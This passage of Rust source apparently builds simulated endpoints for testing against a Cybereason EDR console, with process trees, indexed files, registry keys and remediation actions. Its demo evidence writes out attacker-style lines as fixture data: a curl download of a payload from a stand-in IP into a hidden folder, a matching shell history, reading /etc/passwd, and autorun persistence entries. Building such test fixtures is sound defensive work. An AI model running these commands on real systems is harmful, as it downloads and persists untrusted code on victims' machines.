//! One simulated machine behind a sensor: processes, files and registry keys, each with the
//! element GUID Cybereason gives it (§5: `<machine prefix>.<signed 64-bit>`), so remediation
//! targets and visual-search results look like the real thing.
//!
//! A machine is Windows, Linux or macOS ([`SimOs`]) and has what a responder looks at first:
//! the system's live process tree with parents, image files, users and start times (Windows:
//! `System`, `smss.exe`, `csrss.exe`, `wininit.exe`, `services.exe`, `lsass.exe`, the
//! `svchost.exe` groups, `explorer.exe`; Linux: `systemd`, `sshd`, …; macOS: `launchd`, …), the
//! sensor's own processes, and the demo's evidence. Process elements are per run (the
//! console keeps ended instances, with `endTime`), so parents that exited (the `smss.exe`
//! instances that start each session, `userinit.exe`) are there too, ended.
//!
//! Files: the console indexes the files its sensor saw used (process images, files written or
//! read): those are File elements, what visual search finds and `QUARANTINE_FILE` and
//! `fetchfile/start` take. Other files are only on the disk: the direct fetch (by path) reads
//! them, but nothing indexed names them, so they cannot be quarantined (§6.3, §6.4).

use std::collections::BTreeMap;

use serde_json::{Value, json};

use crate::api::actions;

/// Content of the demo's evidence note (`C:\evidence\note.txt`, `/home/jdoe/evidence/note.txt`,
/// `/Users/jdoe/evidence/note.txt`) on every machine.
pub const NOTE_TXT: &[u8] = b"Cybereason simulator evidence file.\r\nCollected by edrgate.\r\n";

/// A simulated machine's operating system.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub enum SimOs {
    #[default]
    Windows,
    Linux,
    MacOs,
}

impl SimOs {
    /// The sensor's `osType`: `WINDOWS` and `LINUX` as recorded (sensor captures); macOS
    /// sensors' word is not captured, `OSX` is the console's name for the platform.
    pub(crate) fn os_type(self) -> &'static str {
        match self {
            SimOs::Windows => "WINDOWS",
            SimOs::Linux => "LINUX",
            SimOs::MacOs => "OSX",
        }
    }

    /// The sensor's `osVersionType` (`Windows_10`, `Centos_Linux_7` recorded; macOS assumed
    /// in the same style).
    pub(crate) fn os_version_type(self) -> &'static str {
        match self {
            SimOs::Windows => "Windows_10",
            SimOs::Linux => "Centos_Linux_7",
            SimOs::MacOs => "Mac_OS_X_13",
        }
    }
}

/// A process instance as the console keeps it: an element per run, so a pid the OS reused is
/// several elements, the ended ones with an `endTime` (stix-shifter's process capture carries
/// `endTime` beside `applicablePid`, `shared/fixtures/cybereason/
/// stixshifter_POST_rest_visualsearch_query_simple__process.json`).
#[derive(Clone, Debug)]
pub(crate) struct Process {
    pub(crate) pid: u64,
    pub(crate) parent_pid: Option<u64>,
    pub(crate) name: String,
    /// The image file's path (none for `System`, `Registry` and kernel threads).
    pub(crate) image: Option<String>,
    pub(crate) command_line: String,
    pub(crate) guid: String,
    pub(crate) user: String,
    /// Epoch ms (`creationTime`).
    pub(crate) created_ms: i64,
    /// Epoch ms (`endTime`), `None` while the process runs.
    pub(crate) ended_ms: Option<i64>,
}

#[derive(Clone, Debug)]
pub(crate) struct File {
    /// Lower-case path as Cybereason's `correctedPath` holds it.
    pub(crate) path: String,
    pub(crate) content: Vec<u8>,
    pub(crate) guid: String,
    /// A File element of the console; `false`: only on the disk.
    pub(crate) indexed: bool,
    /// Epoch ms (`createdTime`, `modifiedTime`).
    pub(crate) modified_ms: i64,
}

impl File {
    /// The file name (`elementDisplayName`).
    pub(crate) fn name(&self) -> &str {
        self.path.rsplit(['\\', '/']).next().unwrap_or_default()
    }
}

/// A file `QUARANTINE_FILE` moved into the sensor's quarantine folder: a quarantined-file
/// element of its own, which `UNQUARANTINE_FILE` takes (§6.3).
#[derive(Clone, Debug)]
pub(crate) struct Quarantined {
    pub(crate) file: File,
    pub(crate) guid: String,
}

#[derive(Clone, Debug)]
pub(crate) struct Endpoint {
    pub(crate) os: SimOs,
    /// The machine GUID's first half, shared by every element GUID of the machine.
    pub(crate) prefix: i64,
    hostname: String,
    /// Live processes.
    pub(crate) processes: Vec<Process>,
    /// Ended process instances (the console keeps them, with `endTime`): parents that exited,
    /// earlier runs whose pids live processes reuse, and killed processes.
    pub(crate) ended: Vec<Process>,
    /// Processes started since boot, for fresh element GUIDs.
    pub(crate) started: u64,
    /// Quarantine moves, for fresh quarantined-file GUIDs.
    moves: u64,
    /// By lower-case path: indexed files and files only on the disk.
    pub(crate) files: BTreeMap<String, File>,
    /// Lower-case key path → element GUID (Windows only).
    pub(crate) registry: BTreeMap<String, String>,
    /// Files moved to the quarantine folder by `QUARANTINE_FILE`.
    pub(crate) quarantine: Vec<Quarantined>,
}

/// A deterministic signed 64-bit number for `seed` (FNV-1a), for stable GUIDs.
pub(crate) fn hash64(seed: &str) -> i64 {
    let mut h: u64 = 0xcbf2_9ce4_8422_2325;
    for b in seed.bytes() {
        h ^= u64::from(b);
        h = h.wrapping_mul(0x0100_0000_01b3);
    }
    i64::from_ne_bytes(h.to_ne_bytes())
}

/// The statusLog error of a remediation the console cannot carry out on its target: type and
/// message as recorded (`POST_rest_remediate__failure-INVALID_ARGUMENT.json`, §6.3).
pub(crate) fn invalid_argument() -> (String, String) {
    (
        "INVALID_ARGUMENT".to_owned(),
        "Failed to get ProbeRemediationRequest for action: com.cybereason.commads.remediation.RemediationAction@4ab4a9e2. Ignoring remediation action.".to_owned(),
    )
}

/// A process row: pid, parent pid, name, image, command line, user (`~x`: the machine's own
/// account `x`, which the console names `<machine>\x`, as `desktop-vg9ke2u\local service` in
/// the recorded process answer), seconds after boot it started, and for ended runs when it
/// ended.
type Row = (
    u64,
    Option<u64>,
    &'static str,
    Option<&'static str>,
    &'static str,
    &'static str,
    i64,
    Option<i64>,
);

const SVCHOST: Option<&str> = Some("C:\\Windows\\System32\\svchost.exe");
const SMSS: Option<&str> = Some("C:\\Windows\\System32\\smss.exe");
const CSRSS: Option<&str> = Some("C:\\Windows\\System32\\csrss.exe");
const CSRSS_CL: &str = "%SystemRoot%\\system32\\csrss.exe ObjectDirectory=\\Windows SharedSection=1024,20480,768 Windows=On SubSystemType=Windows ServerDll=basesrv,1 ServerDll=winsrv:UserServerDllInitialization,3 ServerDll=sxssrv,4 ProfileControl=Off MaxRequestThreads=16";
const JDOE: &str = "CORP\\jdoe";

#[rustfmt::skip]
const WINDOWS: &[Row] = &[
    (4, None, "System", None, "", "~system", 0, None),
    (108, Some(4), "Registry", None, "", "~system", 1, None),
    (368, Some(4), "smss.exe", SMSS, "\\SystemRoot\\System32\\smss.exe", "~system", 2, None),
    // Each session's smss.exe instance starts csrss.exe and wininit.exe / winlogon.exe, then
    // exits: their parent is an ended element.
    (460, Some(368), "smss.exe", SMSS, "\\SystemRoot\\System32\\smss.exe 000000b0 00000084", "~system", 3, Some(4)),
    (472, Some(460), "csrss.exe", CSRSS, CSRSS_CL, "~system", 3, None),
    (548, Some(460), "wininit.exe", Some("C:\\Windows\\System32\\wininit.exe"), "wininit.exe", "~system", 4, None),
    (536, Some(368), "smss.exe", SMSS, "\\SystemRoot\\System32\\smss.exe 000000c0 00000084", "~system", 4, Some(5)),
    (556, Some(536), "csrss.exe", CSRSS, CSRSS_CL, "~system", 4, None),
    (612, Some(536), "winlogon.exe", Some("C:\\Windows\\System32\\winlogon.exe"), "winlogon.exe", "~system", 5, None),
    (680, Some(548), "services.exe", Some("C:\\Windows\\System32\\services.exe"), "C:\\WINDOWS\\system32\\services.exe", "~system", 5, None),
    (700, Some(548), "lsass.exe", Some("C:\\Windows\\System32\\lsass.exe"), "C:\\WINDOWS\\system32\\lsass.exe", "~system", 5, None),
    (816, Some(680), "svchost.exe", SVCHOST, "C:\\WINDOWS\\system32\\svchost.exe -k DcomLaunch -p", "~system", 6, None),
    (904, Some(680), "svchost.exe", SVCHOST, "C:\\WINDOWS\\system32\\svchost.exe -k RPCSS -p", "~network service", 7, None),
    (1024, Some(680), "svchost.exe", SVCHOST, "C:\\WINDOWS\\system32\\svchost.exe -k LocalService -s W32Time", "~local service", 9, None),
    (1096, Some(680), "svchost.exe", SVCHOST, "C:\\WINDOWS\\system32\\svchost.exe -k netsvcs -p", "~system", 9, None),
    (1180, Some(680), "svchost.exe", SVCHOST, "C:\\WINDOWS\\System32\\svchost.exe -k NetworkService -p", "~network service", 10, None),
    (1400, Some(680), "spoolsv.exe", Some("C:\\Windows\\System32\\spoolsv.exe"), "C:\\WINDOWS\\System32\\spoolsv.exe", "~system", 14, None),
    // The sensor (Cybereason ActiveProbe): `minionhost.exe`, the sensor service, `CrsSvc.exe`,
    // its anti-malware service, and `ActiveConsole.exe` in the user's session.
    (1740, Some(680), "minionhost.exe", Some("C:\\Program Files\\Cybereason ActiveProbe\\minionhost.exe"), "\"C:\\Program Files\\Cybereason ActiveProbe\\minionhost.exe\"", "~system", 16, None),
    (1788, Some(680), "CrsSvc.exe", Some("C:\\Program Files\\Cybereason ActiveProbe\\CrsSvc.exe"), "\"C:\\Program Files\\Cybereason ActiveProbe\\CrsSvc.exe\"", "~system", 16, None),
    (2244, Some(612), "dwm.exe", Some("C:\\Windows\\System32\\dwm.exe"), "\"dwm.exe\"", "~dwm-1", 20, None),
    // The user's logon: userinit.exe starts explorer.exe and exits.
    (2440, Some(612), "userinit.exe", Some("C:\\Windows\\System32\\userinit.exe"), "C:\\WINDOWS\\system32\\userinit.exe", JDOE, 598, Some(604)),
    (2480, Some(2440), "explorer.exe", Some("C:\\Windows\\explorer.exe"), "C:\\WINDOWS\\Explorer.EXE", JDOE, 600, None),
    (2620, Some(1096), "sihost.exe", Some("C:\\Windows\\System32\\sihost.exe"), "sihost.exe", JDOE, 599, None),
    (2904, Some(2480), "ActiveConsole.exe", Some("C:\\Program Files\\Cybereason ActiveProbe\\ActiveConsole.exe"), "\"C:\\Program Files\\Cybereason ActiveProbe\\ActiveConsole.exe\" /silent", JDOE, 620, None),
    // Earlier runs whose pids the live notepad and updater reuse (pids are reused on Windows;
    // Process elements are per run).
    (4242, Some(2480), "cmd.exe", Some("C:\\Windows\\System32\\cmd.exe"), "C:\\WINDOWS\\system32\\cmd.exe /c whoami", JDOE, 900, Some(960)),
    (3012, Some(2480), "powershell.exe", Some("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"), "powershell.exe -NoProfile -Command Get-Date", JDOE, 900, Some(960)),
    (3012, Some(2480), "updater.exe", Some("C:\\Users\\jdoe\\AppData\\Local\\Temp\\updater.exe"), "\"C:\\Users\\jdoe\\AppData\\Local\\Temp\\updater.exe\" --silent --beacon 300", JDOE, 1500, None),
    (4242, Some(2480), "notepad.exe", Some("C:\\Windows\\System32\\notepad.exe"), "\"C:\\WINDOWS\\system32\\notepad.exe\" C:\\evidence\\note.txt", JDOE, 1800, None),
];

/// The Linux and macOS sensors' program (the reference documents only their folders, from
/// the quarantine paths of §6.3).
const LINUX_SENSOR: &str = "/opt/cybereason/sensor/bin/cybereason-sensor";
const MAC_SENSOR: &str = "/usr/local/cybereason/bin/cybereason-sensor";

/// CentOS 7 (the recorded Linux sensor's `osVersionType`).
#[rustfmt::skip]
const LINUX: &[Row] = &[
    (1, None, "systemd", Some("/usr/lib/systemd/systemd"), "/usr/lib/systemd/systemd --switched-root --system --deserialize 22", "root", 0, None),
    (2, None, "kthreadd", None, "[kthreadd]", "root", 0, None),
    (512, Some(1), "systemd-journald", Some("/usr/lib/systemd/systemd-journald"), "/usr/lib/systemd/systemd-journald", "root", 2, None),
    (540, Some(1), "systemd-udevd", Some("/usr/lib/systemd/systemd-udevd"), "/usr/lib/systemd/systemd-udevd", "root", 2, None),
    (640, Some(1), "auditd", Some("/usr/sbin/auditd"), "/sbin/auditd", "root", 4, None),
    (668, Some(1), "dbus-daemon", Some("/usr/bin/dbus-daemon"), "/usr/bin/dbus-daemon --system --address=systemd: --nofork --nopidfile --systemd-activation", "dbus", 5, None),
    (672, Some(1), "systemd-logind", Some("/usr/lib/systemd/systemd-logind"), "/usr/lib/systemd/systemd-logind", "root", 5, None),
    (690, Some(1), "rsyslogd", Some("/usr/sbin/rsyslogd"), "/usr/sbin/rsyslogd -n", "root", 6, None),
    (702, Some(1), "crond", Some("/usr/sbin/crond"), "/usr/sbin/crond -n", "root", 6, None),
    (980, Some(1), "sshd", Some("/usr/sbin/sshd"), "/usr/sbin/sshd -D", "root", 8, None),
    (1012, Some(1), "cybereason-sensor", Some(LINUX_SENSOR), LINUX_SENSOR, "root", 10, None),
    (2210, Some(980), "sshd", Some("/usr/sbin/sshd"), "sshd: jdoe [priv]", "root", 600, None),
    (2214, Some(2210), "sshd", Some("/usr/sbin/sshd"), "sshd: jdoe@pts/0", "jdoe", 601, None),
    (2215, Some(2214), "bash", Some("/usr/bin/bash"), "-bash", "jdoe", 601, None),
    (4242, Some(2215), "cat", Some("/usr/bin/cat"), "cat /etc/passwd", "jdoe", 900, Some(901)),
    (3012, Some(2215), "curl", Some("/usr/bin/curl"), "curl -s http://203.0.113.50/u -o /tmp/.updater/updater", "jdoe", 1400, Some(1402)),
    (3012, Some(2215), "updater", Some("/tmp/.updater/updater"), "/tmp/.updater/updater --silent --beacon 300", "jdoe", 1500, None),
    (4242, Some(2215), "less", Some("/usr/bin/less"), "less /home/jdoe/evidence/note.txt", "jdoe", 1800, None),
];

const LOGINWINDOW: &str = "/System/Library/CoreServices/loginwindow.app/Contents/MacOS/loginwindow";
const FSEVENTSD: &str = "/System/Library/Frameworks/CoreServices.framework/Versions/A/Frameworks/FSEvents.framework/Versions/A/Support/fseventsd";
const MAC_UPDATER: &str = "/Users/jdoe/Library/Application Support/.updater/updater";

/// macOS 13.
#[rustfmt::skip]
const MACOS: &[Row] = &[
    (1, None, "launchd", Some("/sbin/launchd"), "/sbin/launchd", "root", 0, None),
    (88, Some(1), "logd", Some("/usr/libexec/logd"), "/usr/libexec/logd", "root", 2, None),
    (90, Some(1), "UserEventAgent", Some("/usr/libexec/UserEventAgent"), "/usr/libexec/UserEventAgent (System)", "root", 2, None),
    (94, Some(1), "fseventsd", Some(FSEVENTSD), FSEVENTSD, "root", 2, None),
    (108, Some(1), "opendirectoryd", Some("/usr/libexec/opendirectoryd"), "/usr/libexec/opendirectoryd", "root", 3, None),
    (330, Some(1), "cybereason-sensor", Some(MAC_SENSOR), MAC_SENSOR, "root", 10, None),
    (140, Some(1), "loginwindow", Some(LOGINWINDOW), "/System/Library/CoreServices/loginwindow.app/Contents/MacOS/loginwindow console", "jdoe", 20, None),
    (610, Some(1), "Finder", Some("/System/Library/CoreServices/Finder.app/Contents/MacOS/Finder"), "/System/Library/CoreServices/Finder.app/Contents/MacOS/Finder", "jdoe", 600, None),
    (612, Some(1), "Dock", Some("/System/Library/CoreServices/Dock.app/Contents/MacOS/Dock"), "/System/Library/CoreServices/Dock.app/Contents/MacOS/Dock", "jdoe", 600, None),
    (700, Some(1), "Terminal", Some("/System/Applications/Utilities/Terminal.app/Contents/MacOS/Terminal"), "/System/Applications/Utilities/Terminal.app/Contents/MacOS/Terminal", "jdoe", 700, None),
    (702, Some(700), "login", Some("/usr/bin/login"), "login -pf jdoe", "root", 701, None),
    (703, Some(702), "zsh", Some("/bin/zsh"), "-zsh", "jdoe", 701, None),
    (4242, Some(703), "cat", Some("/bin/cat"), "cat /etc/hosts", "jdoe", 900, Some(901)),
    (3012, Some(703), "curl", Some("/usr/bin/curl"), "curl -s http://203.0.113.50/u -o '/Users/jdoe/Library/Application Support/.updater/updater'", "jdoe", 1400, Some(1402)),
    (3012, Some(703), "updater", Some(MAC_UPDATER), "'/Users/jdoe/Library/Application Support/.updater/updater' --silent --beacon 300", "jdoe", 1500, None),
    (4242, Some(1), "TextEdit", Some("/System/Applications/TextEdit.app/Contents/MacOS/TextEdit"), "/System/Applications/TextEdit.app/Contents/MacOS/TextEdit", "jdoe", 1800, None),
];

/// Files beside the process images: `(path, content, indexed)`.
#[rustfmt::skip]
fn extra_files(os: SimOs, hostname: &str, dropper: Vec<u8>) -> Vec<(String, Vec<u8>, bool)> {
    let host = hostname.to_lowercase();
    let text = |s: String| s.into_bytes();
    let list: Vec<(&str, Vec<u8>, bool)> = match os {
        SimOs::Windows => vec![
            ("C:\\evidence\\note.txt", NOTE_TXT.to_vec(), true),
            ("C:\\Users\\jdoe\\AppData\\Local\\Temp\\updater.exe", dropper, true),
            ("C:\\Windows\\System32\\drivers\\etc\\hosts", text(format!("# Copyright (c) 1993-2009 Microsoft Corp.\r\n#\r\n# This is a sample HOSTS file used by Microsoft TCP/IP for Windows.\r\n#\r\n127.0.0.1 localhost\r\n::1 localhost\r\n10.1.0.2 {host}-gw\r\n")), true),
            ("C:\\Users\\jdoe\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\updater.lnk", b"L\x00\x00\x00\x01\x14\x02\x00 simulated shortcut to updater.exe".to_vec(), true),
            ("C:\\Users\\jdoe\\NTUSER.DAT", b"regf simulated user hive".to_vec(), true),
            ("C:\\Windows\\System32\\config\\SAM", b"regf simulated SAM hive".to_vec(), true),
            // On the disk, never used while the sensor watched: not indexed.
            ("C:\\Windows\\win.ini", b"; for 16-bit app support\r\n[fonts]\r\n[extensions]\r\n[mci extensions]\r\n[files]\r\n[Mail]\r\nMAPI=1\r\n".to_vec(), false),
            ("C:\\Windows\\System32\\drivers\\etc\\networks", b"# Copyright (c) 1993-1999 Microsoft Corp.\r\nloopback                 127\r\n".to_vec(), false),
        ],
        SimOs::Linux => vec![
            ("/home/jdoe/evidence/note.txt", NOTE_TXT.to_vec(), true),
            ("/tmp/.updater/updater", dropper, true),
            ("/etc/hosts", text(format!("127.0.0.1   localhost localhost.localdomain\n::1         localhost localhost.localdomain\n10.1.0.2    {host}-gw\n")), true),
            ("/etc/passwd", b"root:x:0:0:root:/root:/bin/bash\nsshd:x:74:74:Privilege-separated SSH:/var/empty/sshd:/sbin/nologin\ndbus:x:81:81:System message bus:/:/sbin/nologin\njdoe:x:1000:1000:J. Doe:/home/jdoe:/bin/bash\n".to_vec(), true),
            ("/home/jdoe/.bash_history", b"cat /etc/passwd\ncurl -s http://203.0.113.50/u -o /tmp/.updater/updater\nchmod +x /tmp/.updater/updater\n".to_vec(), true),
            ("/etc/os-release", b"NAME=\"CentOS Linux\"\nVERSION=\"7 (Core)\"\nID=\"centos\"\n".to_vec(), false),
            ("/etc/ssh/sshd_config", b"PermitRootLogin no\nPasswordAuthentication yes\n".to_vec(), false),
        ],
        SimOs::MacOs => vec![
            ("/Users/jdoe/evidence/note.txt", NOTE_TXT.to_vec(), true),
            (MAC_UPDATER, dropper, true),
            ("/etc/hosts", text(format!("127.0.0.1\tlocalhost\n255.255.255.255\tbroadcasthost\n::1             localhost\n10.1.0.2\t{host}-gw\n")), true),
            ("/Users/jdoe/Library/LaunchAgents/com.updater.agent.plist", b"<?xml version=\"1.0\"?><plist version=\"1.0\"><dict><key>Label</key><string>com.updater.agent</string><key>RunAtLoad</key><true/></dict></plist>\n".to_vec(), true),
            ("/System/Library/CoreServices/SystemVersion.plist", b"<plist version=\"1.0\"><dict><key>ProductVersion</key><string>13.6</string></dict></plist>\n".to_vec(), false),
            ("/etc/shells", b"/bin/bash\n/bin/csh\n/bin/zsh\n".to_vec(), false),
        ],
    };
    list.into_iter().map(|(p, c, i)| (p.to_owned(), c, i)).collect()
}

/// The registry keys of a Windows machine (RegistryEvent elements).
const REGISTRY: [&str; 8] = [
    "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater",
    "HKCU\\Software\\Updater",
    "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\RunOnce",
    "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion",
    "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon",
    "HKLM\\SYSTEM\\CurrentControlSet\\Services\\CybereasonActiveProbe",
    "HKLM\\SYSTEM\\CurrentControlSet\\Control\\Session Manager",
    "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run",
];

/// An image file's bytes: the format's magic, then a recognisable filler.
fn image_bytes(os: SimOs, path: &str) -> Vec<u8> {
    let magic: &[u8] = match os {
        SimOs::Windows => b"MZ\x90\x00",
        SimOs::Linux => b"\x7fELF\x02\x01\x01\x00",
        SimOs::MacOs => b"\xcf\xfa\xed\xfe",
    };
    let mut out = magic.to_vec();
    out.extend_from_slice(format!(" simulated image of {path} ").as_bytes());
    out.resize(2048, 0);
    out
}

/// A visual-search element of the machine: GUID, simple features (name → values) and links
/// (`elementValues`).
pub(crate) struct Element {
    pub(crate) guid: String,
    pub(crate) features: Vec<(&'static str, Vec<String>)>,
    pub(crate) links: serde_json::Map<String, Value>,
}

/// A link to another element, as answers carry them (`elementValues.<feature>`).
pub(crate) fn element_ref(element_type: &str, guid: &str, name: &str) -> Value {
    json!({"totalValues": 1, "elementValues": [{"elementType": element_type, "guid": guid, "name": name, "hasSuspicions": false, "hasMalops": false}], "totalSuspicious": 0, "totalMalicious": 0, "guessedTotal": 0})
}

impl Endpoint {
    pub(crate) fn new(hostname: &str, prefix: i64, os: SimOs) -> Self {
        let guid = |what: &str| format!("{prefix}.{}", hash64(&format!("{hostname}/{what}")));
        // Booted an hour ago; the user logged on ten minutes later.
        let boot = crate::state::epoch_ms() - 3_600_000;
        let host = hostname.to_lowercase();
        let rows = match os {
            SimOs::Windows => WINDOWS,
            SimOs::Linux => LINUX,
            SimOs::MacOs => MACOS,
        };
        let (mut processes, mut ended) = (Vec::new(), Vec::new());
        for &(pid, parent_pid, name, image, cl, user, start, end) in rows {
            let ended_ms = end.map(|e| boot + e * 1000);
            let tag = if ended_ms.is_some() { "/ended" } else { "" };
            let p = Process {
                pid,
                parent_pid,
                name: name.into(),
                image: image.map(str::to_owned),
                command_line: cl.into(),
                guid: guid(&format!("process/{pid}{tag}/{name}")),
                user: user
                    .strip_prefix('~')
                    .map_or_else(|| user.to_owned(), |u| format!("{host}\\{u}")),
                created_ms: boot + start * 1000,
                ended_ms,
            };
            if p.ended_ms.is_some() { ended.push(p) } else { processes.push(p) }
        }
        let mut files = BTreeMap::new();
        let dropper: Vec<u8> = b"MZ\x90\x00simulated dropper "
            .iter()
            .copied()
            .chain(hostname.bytes())
            .chain((0..=255u8).cycle().take(64 * 1024))
            .collect();
        let images = processes.iter().chain(&ended).filter_map(|p| p.image.clone());
        let images: Vec<(String, Vec<u8>, bool)> =
            images.map(|p| (p.clone(), image_bytes(os, &p), true)).collect();
        // The extras last: the dropper's content wins over its image filler.
        for (path, content, indexed) in images.into_iter().chain(extra_files(os, hostname, dropper))
        {
            let lower = path.to_lowercase();
            let file = File {
                guid: guid(&format!("file/{lower}")),
                path: lower.clone(),
                content,
                indexed,
                modified_ms: boot - 86_400_000,
            };
            files.insert(lower, file);
        }
        let registry = if os == SimOs::Windows {
            REGISTRY
                .into_iter()
                .map(|k| {
                    let lower = k.to_lowercase();
                    let g = guid(&format!("registry/{lower}"));
                    (lower, g)
                })
                .collect()
        } else {
            BTreeMap::new()
        };
        Endpoint {
            os,
            prefix,
            hostname: hostname.to_owned(),
            processes,
            ended,
            started: 0,
            moves: 0,
            files,
            registry,
            quarantine: Vec::new(),
        }
    }

    /// Starts a process (parent: the user's shell, explorer on Windows) and returns its
    /// element GUID.
    pub(crate) fn start_process(&mut self, hostname: &str, pid: u64, name: &str) -> String {
        self.started += 1;
        let guid = format!(
            "{}.{}",
            self.prefix,
            hash64(&format!("{hostname}/process/{pid}/started/{}", self.started))
        );
        let (parent, user) = match self.os {
            SimOs::Windows => (2480, JDOE),
            SimOs::Linux => (2215, "jdoe"),
            SimOs::MacOs => (703, "jdoe"),
        };
        self.processes.push(Process {
            pid,
            parent_pid: Some(parent),
            name: name.into(),
            image: None,
            command_line: name.into(),
            guid: guid.clone(),
            user: user.into(),
            created_ms: crate::state::epoch_ms(),
            ended_ms: None,
        });
        guid
    }

    pub(crate) fn machine_guid(&self, hostname: &str) -> String {
        format!("{}.{}", self.prefix, hash64(&format!("machine/{hostname}")))
    }

    /// The instance of `p`'s parent pid that was running when `p` started (pids are reused:
    /// the parent is the run alive at the child's creation, which may have ended since).
    pub(crate) fn parent_of(&self, p: &Process) -> Option<&Process> {
        let ppid = p.parent_pid?;
        self.processes.iter().chain(&self.ended).find(|q| {
            q.pid == ppid
                && q.created_ms <= p.created_ms
                && q.ended_ms.is_none_or(|e| e >= p.created_ms)
                && q.guid != p.guid
        })
    }

    /// The indexed File element of a path, if any.
    pub(crate) fn indexed_file(&self, guid: &str) -> Option<&File> {
        self.files.values().find(|f| f.indexed && f.guid == guid)
    }

    /// Runs one remediation action; `Err` is the statusLog error (type, message).
    pub(crate) fn remediate(&mut self, action: &str, target: &str) -> Result<(), (String, String)> {
        let invalid = invalid_argument;
        match action {
            actions::KILL_PROCESS => {
                // Only a running instance can be killed; an ended one is a target the sensor
                // cannot act on (its recorded answer to such a target, §6.3).
                let i = self.processes.iter().position(|p| p.guid == target).ok_or_else(invalid)?;
                let mut killed = self.processes.remove(i);
                killed.ended_ms = Some(crate::state::epoch_ms());
                self.ended.push(killed);
            }
            actions::QUARANTINE_FILE => {
                // Only a File element the console indexes is a target (others have no GUID).
                let key = self.indexed_file(target).map(|f| f.path.clone()).ok_or_else(invalid)?;
                if let Some(file) = self.files.remove(&key) {
                    self.moves += 1;
                    let seed = format!("{}/quarantine/{key}/{}", self.hostname, self.moves);
                    let guid = format!("{}.{}", self.prefix, hash64(&seed));
                    self.quarantine.push(Quarantined { file, guid });
                }
            }
            actions::UNQUARANTINE_FILE => {
                // The target is the quarantined-file element, not the original File (§6.3).
                let i =
                    self.quarantine.iter().position(|q| q.guid == target).ok_or_else(invalid)?;
                let q = self.quarantine.remove(i);
                self.files.insert(q.file.path.clone(), q.file);
            }
            actions::DELETE_REGISTRY_KEY => {
                let key = self
                    .registry
                    .iter()
                    .find(|(_, g)| *g == target)
                    .map(|(k, _)| k.clone())
                    .ok_or_else(invalid)?;
                // Deleting a key removes its subkeys too.
                self.registry.retain(|k, _| k != &key && !k.starts_with(&format!("{key}\\")));
            }
            _ => {
                return Err((
                    "UNSUPPORTED_ACTION".into(),
                    format!("action {action} is not supported by the sensor"),
                ));
            }
        }
        Ok(())
    }

    /// The machine's elements of `requested_type` (§6.1), each linked to its `owner` machine:
    /// Process (live and ended runs alike: the console keeps an element per run), File (the
    /// indexed ones), QuarantineFile (what the quarantine holds, by original path) and
    /// RegistryEvent.
    pub(crate) fn elements(&self, requested_type: &str, owner: &Value) -> Vec<Element> {
        let mut out = Vec::new();
        let owned = || {
            let mut links = serde_json::Map::new();
            links.insert("ownerMachine".into(), owner.clone());
            links
        };
        match requested_type {
            "Process" => {
                for p in self.processes.iter().chain(&self.ended) {
                    let mut links = owned();
                    let user_guid = format!("0.{}", hash64(&p.user));
                    links.insert("calculatedUser".into(), element_ref("User", &user_guid, &p.user));
                    if let Some(parent) = self.parent_of(p) {
                        links.insert(
                            "parentProcess".into(),
                            element_ref("Process", &parent.guid, &parent.name),
                        );
                    }
                    let mut features = vec![
                        ("elementDisplayName", vec![p.name.clone()]),
                        ("applicablePid", vec![p.pid.to_string()]),
                        ("commandLine", vec![p.command_line.clone()]),
                        ("creationTime", vec![p.created_ms.to_string()]),
                        ("endTime", p.ended_ms.map(|t| t.to_string()).into_iter().collect()),
                    ];
                    // The image: a File element link, and its path among the simple values as
                    // the recorded answer carries the image's other features
                    // (`imageFile.md5String`, `imageFile.companyName`, …).
                    if let Some(f) =
                        p.image.as_ref().and_then(|i| self.files.get(&i.to_lowercase()))
                    {
                        links.insert("imageFile".into(), element_ref("File", &f.guid, f.name()));
                        features.push(("imageFile.correctedPath", vec![f.path.clone()]));
                    }
                    out.push(Element { guid: p.guid.clone(), features, links });
                }
            }
            "File" => {
                for f in self.files.values().filter(|f| f.indexed) {
                    let features = vec![
                        ("elementDisplayName", vec![f.name().to_owned()]),
                        ("correctedPath", vec![f.path.clone()]),
                        ("createdTime", vec![f.modified_ms.to_string()]),
                        ("modifiedTime", vec![f.modified_ms.to_string()]),
                    ];
                    out.push(Element { guid: f.guid.clone(), features, links: owned() });
                }
            }
            "QuarantineFile" => {
                for q in &self.quarantine {
                    let features = vec![
                        ("elementDisplayName", vec![q.file.name().to_owned()]),
                        ("correctedPath", vec![q.file.path.clone()]),
                    ];
                    out.push(Element { guid: q.guid.clone(), features, links: owned() });
                }
            }
            "RegistryEvent" => {
                for (k, g) in &self.registry {
                    let features = vec![("elementDisplayName", vec![k.clone()])];
                    out.push(Element { guid: g.clone(), features, links: owned() });
                }
            }
            _ => {}
        }
        out
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn remediations_change_the_endpoint_once() {
        let mut e = Endpoint::new("CR-WS-0001", -1845090846, SimOs::Windows);
        let notepad = e.processes.iter().find(|p| p.pid == 4242).unwrap().guid.clone();
        assert!(notepad.starts_with("-1845090846."));
        assert!(e.remediate("KILL_PROCESS", &notepad).is_ok());
        assert_eq!(e.remediate("KILL_PROCESS", &notepad).unwrap_err().0, "INVALID_ARGUMENT");
        assert!(e.ended.iter().any(|p| p.guid == notepad && p.ended_ms.is_some()), "kept, ended");
        let earlier = e.ended.iter().find(|p| p.pid == 3012).unwrap().guid.clone();
        assert_eq!(e.remediate("KILL_PROCESS", &earlier).unwrap_err().0, "INVALID_ARGUMENT");
        let file = e.files["c:\\evidence\\note.txt"].guid.clone();
        e.remediate("QUARANTINE_FILE", &file).unwrap();
        assert_eq!(e.quarantine.len(), 1);
        let key = e.registry["hkcu\\software\\updater"].clone();
        e.remediate("DELETE_REGISTRY_KEY", &key).unwrap();
        assert!(!e.registry.contains_key("hkcu\\software\\updater"));
    }

    #[test]
    fn unquarantine_takes_the_quarantined_element_and_puts_the_file_back() {
        let mut e = Endpoint::new("CR-WS-0001", 7, SimOs::Windows);
        let hosts = "c:\\windows\\system32\\drivers\\etc\\hosts";
        let file = e.files[hosts].guid.clone();
